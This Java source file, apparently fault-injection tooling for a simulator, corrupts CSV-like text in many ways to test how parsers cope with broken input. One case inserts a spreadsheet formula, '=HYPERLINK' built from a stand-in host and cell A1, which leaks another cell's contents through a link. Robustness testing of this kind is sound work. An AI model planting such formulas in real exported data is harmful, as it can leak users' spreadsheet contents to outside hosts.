package dev.helmsman.simulator.broken;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.random.RandomGenerator;

/** Ways to break a text file whose records are lines, the first of which is the header. */
final class BrokenText {
    private static final Charset GBK = Charset.forName("GB18030");
    private final List<byte[]> lines = new ArrayList<>();
    private final Charset charset;
    private final RandomGenerator random;

    private BrokenText(byte[] sound, Charset charset, RandomGenerator random) {
        this.charset = charset;
        this.random = random;
        int from = 0;
        for (int i = 0; i < sound.length; i++) {
            if (sound[i] != '\n') continue;
            lines.add(Arrays.copyOfRange(sound, from, i + 1));
            from = i + 1;
        }
        if (from < sound.length) lines.add(Arrays.copyOfRange(sound, from, sound.length));
    }

    static Breakage of(byte[] sound, Charset charset, RandomGenerator random) {
        BrokenText text = new BrokenText(sound, charset, random);
        if (text.lines.size() < 4)
            return new Breakage(Arrays.copyOf(sound, sound.length / 2), "cut in half", Breakage.ANY);
        return text.broken();
    }

    private Breakage broken() {
        int line = 1 + random.nextInt(lines.size() - 1);
        byte[] old = lines.get(line);
        return switch (random.nextInt(18)) {
            case 0 -> {
                byte[] flipped = old.clone();
                flipped[random.nextInt(flipped.length)] ^= (byte) (1 << random.nextInt(8));
                yield with(line, flipped, "a bit flipped", 2);
            }
            case 1 -> {
                byte[] noise = old.clone();
                for (int i = 0; i < 1 + random.nextInt(20); i++) {
                    noise[random.nextInt(noise.length)] = (byte) random.nextInt(256);
                }
                // any of them may be a line end or a quote
                yield with(line, noise, "noise in a row", 3);
            }
            case 2 -> {
                byte[] all = joined();
                int end = random.nextInt(all.length);
                int left = 0;
                for (int at = 0; left < lines.size() && at + lines.get(left).length <= end; left++) {
                    at += lines.get(left).length;
                }
                yield new Breakage(Arrays.copyOf(all, end), "cut off at " + end, lines.size() - left);
            }
            case 3 -> {
                for (int i = 0; i < 1 + random.nextInt(5); i++) lines.add(1 + random.nextInt(lines.size() - 1), old);
                yield new Breakage(joined(), "a row doubled", 0);
            }
            case 4 -> {
                int column = random.nextInt(cells(lines.getFirst()).size());
                for (int i = 0; i < lines.size(); i++) {
                    List<String> cells = cells(lines.get(i));
                    if (column < cells.size()) cells.remove(column);
                    lines.set(i, line(cells));
                }
                yield new Breakage(joined(), "column " + column + " dropped", Breakage.ANY);
            }
            case 5 -> {
                Charset other = charset.equals(StandardCharsets.UTF_8) ? GBK : StandardCharsets.UTF_8;
                yield with(line, new String(old, charset).getBytes(other), "a row in another encoding", 1);
            }
            case 6 -> {
                List<String> cells = cells(old);
                int cell = random.nextInt(cells.size());
                cells.set(cell, "\"" + cells.get(cell));
                yield with(line, line(cells), "a quote opened", 2);
            }
            case 7 -> {
                int from = random.nextInt(old.length);
                int to = from + random.nextInt(old.length - from);
                byte[] shorter = new byte[old.length - (to - from)];
                System.arraycopy(old, 0, shorter, 0, from);
                System.arraycopy(old, to, shorter, from, old.length - to);
                yield with(line, shorter, "a piece of a row lost", 2);
            }
            case 8 -> {
                List<String> cells = cells(old);
                Collections.swap(cells, random.nextInt(cells.size()), random.nextInt(cells.size()));
                yield with(line, line(cells), "two cells swapped", 1);
            }
            case 9 -> {
                ByteArrayOutputStream all = new ByteArrayOutputStream();
                for (byte[] each : lines) {
                    int end = each.length;
                    while (end > 0 && (each[end - 1] == '\n' || each[end - 1] == '\r')) end--;
                    all.write(each, 0, end);
                    String ends = List.of("\n", "\r\n", "\r").get(random.nextInt(3));
                    all.writeBytes(ends.getBytes(StandardCharsets.US_ASCII));
                }
                yield new Breakage(all.toByteArray(), "mixed line ends", 0);
            }
            case 10 -> {
                byte[] zeros = old.clone();
                Arrays.fill(zeros, 0, 1 + random.nextInt(zeros.length - 1), (byte) 0);
                yield with(line, zeros, "zeros in a row", 2);
            }
            case 11 -> {
                List<String> cells = cells(old);
                cells.set(random.nextInt(cells.size()), "x".repeat(1 << random.nextInt(8, 23)));
                yield with(line, line(cells), "a huge cell", 1);
            }
            case 12 -> {
                lines.add(line, lines.getFirst());
                yield new Breakage(joined(), "the header again", 0);
            }
            case 13 -> {
                List<String> cells = cells(old);
                cells.set(random.nextInt(cells.size()), "=HYPERLINK(\"http://example.org\"&A1)");
                yield with(line, line(cells), "a formula", 1);
            }
            case 14 -> {
                Collections.shuffle(lines.subList(1, lines.size()), random);
                byte[] last = lines.getLast();
                if (last.length > 0 && last[last.length - 1] != '\n')
                    lines.set(lines.size() - 1, (new String(last, charset) + "\n").getBytes(charset));
                yield new Breakage(joined(), "rows shuffled", 1);
            }
            case 15 -> {
                lines.remove(line);
                yield new Breakage(joined(), "a row lost", 1);
            }
            case 16 -> {
                List<String> cells = cells(lines.getFirst());
                int cell = random.nextInt(cells.size());
                cells.set(cell, cells.get(cell) + "（新）");
                lines.set(0, line(cells));
                yield new Breakage(joined(), "header " + cell + " renamed", Breakage.ANY);
            }
            default -> {
                byte[] gap = new byte[random.nextInt(2000)];
                random.nextBytes(gap);
                lines.set(line, gap);
                yield new Breakage(joined(), "a row of noise", gap.length == 0 ? 2 : 1 + count(gap));
            }
        };
    }

    /** Noise may open quotes and end lines: each such byte may cost a neighbour. */
    private static int count(byte[] noise) {
        int ends = 1;
        for (byte b : noise) if (b == '"' || b == '\n' || b == '\r') ends++;
        return ends;
    }

    private Breakage with(int line, byte[] bytes, String how, int touched) {
        lines.set(line, bytes);
        return new Breakage(joined(), how + " in line " + (line + 1), touched);
    }

    /** Cut at commas outside quotes, kept as they are spelled; the line end stays on the last. */
    private List<String> cells(byte[] line) {
        List<String> cells = new ArrayList<>();
        String text = new String(line, charset);
        int from = 0;
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"') quoted = !quoted;
            if (c == ',' && !quoted) {
                cells.add(text.substring(from, i));
                from = i + 1;
            }
        }
        cells.add(text.substring(from));
        return cells;
    }

    private byte[] line(List<String> cells) {
        String text = String.join(",", cells);
        return (text.endsWith("\n") ? text : text.replace("\n", "").replace("\r", "") + "\n").getBytes(charset);
    }

    private byte[] joined() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        lines.forEach(all::writeBytes);
        return all.toByteArray();
    }
}
